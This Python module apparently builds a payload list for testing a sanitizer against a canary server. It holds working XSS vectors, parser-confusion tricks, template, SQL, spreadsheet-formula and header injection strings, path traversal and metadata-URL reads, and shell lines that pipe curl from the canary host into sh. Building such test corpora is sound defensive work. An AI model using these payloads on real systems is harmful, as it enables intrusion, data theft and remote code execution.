"""What people write who want a reader's browser, or our server, to do something for them.

Each payload either calls `alert`, or asks for something at the address of a canary: known tricks, put together
here by where they break out and by what they then do.
"""

from __future__ import annotations

from itertools import product

# Where a text may stand, and what would end that place.
BREAK_OUTS = (
    "",
    '">',
    "'>",
    "--></style>",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    '\\" ',
    "{{",
    "&quot;>",
)
# What runs by itself once it stands in a document (`alert` is listened for).
RUNNING = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
)
# What asks for something; {c} is the canary's address without a scheme, so that every text stays short.
CALLING = (
    "<img src=//{c}>",
    "<script src=//{c}></script>",
    "<link rel=stylesheet href=//{c}>",
    "<iframe src=//{c}></iframe>",
    "<object data=//{c}></object>",
    "<embed src=//{c}>",
    "<style>@import'//{c}'</style>",
    "<p style=background:url(//{c})>",
    "<meta http-equiv=refresh content=0;url=//{c}>",
    "<base href=//{c}/>",
    "<video poster=//{c} src=//{c}>",
    "<audio src=//{c} autoplay>",
    "<input type=image src=//{c}>",
    "<body background=//{c}>",
    "<svg><image href=//{c} /></svg>",
    "<svg><use href=//{c}#x /></svg>",
    "<table background=//{c}><tr><td>x</table>",
    "<img srcset='//{c} 2x'>",
    "<picture><source srcset=//{c}><img></picture>",
    "<link rel=prefetch href=//{c}>",
    "<link rel=attachment href=file:///etc/passwd>",
    "<link rel=attachment href=//{c}>",
    "<form action=//{c}><button autofocus>x</button></form>",
    "<a href=x ping=//{c}>x</a>",
    "![x](http://{c})",
    "![x][r]\n\n[r]: http://{c}",
    "<track src=//{c} default>",
)
# What runs when it is followed or filled in.
FOLLOWED = (
    "<a href=javascript:alert(1)>go</a>",
    "<a href=' javascript:alert(1)'>go</a>",
    "<a href='java&#10;script:alert(1)'>go</a>",
    "<a href='&#106;avascript:alert(1)'>go</a>",
    "<a href=vbscript:x>go</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>go</a>",
    "[go](javascript:alert(1))",
    "[go](JaVaScRiPt:alert(1))",
    "[go](javascript&colon;alert(1))",
    "[go](&#106;avascript:alert(1))",
    "[go](\x0bjavascript:alert(1))",
    "[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[go][j]\n\n[j]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[go](<javascript:alert(1)>)",
    '[go](//{c} "x" onclick=alert(1))',
    '[go](http://x/"onmouseover=alert(1)//)',
    "http://x/'onmouseover='alert(1)",
    'http://x/"><img src=x onerror=alert(1)>',
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><a href=javascript:alert(1)>x</a></mtext></math>",
    "<button formaction=javascript:alert(1)>go</button>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "[a](file:///etc/passwd)",
)
# Parsers that read the same text differently.
CONFUSING = (
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0c=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    '<img src="x""onerror=alert(1)//">',
    "<svg/onload=alert(1)//",
    "<svg><script>alert&#40;1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<math><style><img src=x onerror=alert(1)></style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table><td><template><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)>",
    "<xmp><img alt='</xmp><img src=x onerror=alert(1)>'>",
    "<title><img alt='</title><img src=x onerror=alert(1)>'>",
    "<plaintext><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "＜script＞alert(1)＜/script＞",
    "<ſcript>alert(1)</ſcript>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "> <script>alert(1)</script>",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "<h1>x</h1><script\n>alert(1)</script\n>",
    "<p id=location name=body>x</p>",
    "<form id=csrf_token name=getElementById><input name=action></form>",
    "<div data-module=support data-url=//{c}>x</div>",
    "<p class=visually-hidden hidden>x</p><script>alert(1)</script>",
    "<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>",
    "<style>*{{}}</style><script>alert(1)</script>",
)
# Other interpreters: templates, formats, spreadsheets, mail and log lines, SQL, shells, paths.
ELSEWHERE = (
    "{{{{7*7}}}} {{{{config}}}}",
    "{{% for x in ().__class__.__base__.__subclasses__() %}}x{{% endfor %}}",
    "${{7*7}} #{{7*7}}",
    "%(name)s %s %d %n {{0}} {{name}} {{0.__class__}}",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://{c}")',
    "+1+1 -1 @SUM(A1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "Subject: x\r\nBcc: victim@example.org\r\n\r\nbody",
    "name\r\nSet-Cookie: consult=stolen",
    "name\u2028Bcc: victim@example.org",
    "name\u2029X-Injected: 1",
    'x"; DROP TABLE proposals_contribution; --',
    "' OR 1=1 --",
    "$(curl http://{c}) `curl http://{c}`",
    "; curl http://{c} | sh",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data",
    "\u202egnp.exe\u202c the right way",
    "a\u200bb\u2066c\u2069 title",
    'level": "ERROR", "x": "',
    "</svg><script>alert(1)</script>",
    "<text>x</text><script>alert(1)</script>",
    "url(javascript:alert(1)) expression(alert(1))",
    '";alert(1);//',
    "';alert(1);//",
    "</a></li></ul></main><script>alert(1)</script>",
    "]}}}};alert(1);//",
    "<x:script xmlns:x=http://www.w3.org/1999/xhtml>alert(1)</x:script>",
)


def payloads(canary: str) -> tuple[str, ...]:
    """Every payload; `canary` is `host:port/` of the server that must hear nothing. No two are the same."""
    broken_out = [f"{place}{vector}" for place, vector in product(BREAK_OUTS, RUNNING)]
    plain = [*CALLING, *FOLLOWED, *CONFUSING, *ELSEWHERE]
    numbered = [text.format(c=f"{canary}{number}") for number, text in enumerate(plain)]
    return tuple(dict.fromkeys([*broken_out, *numbered]))
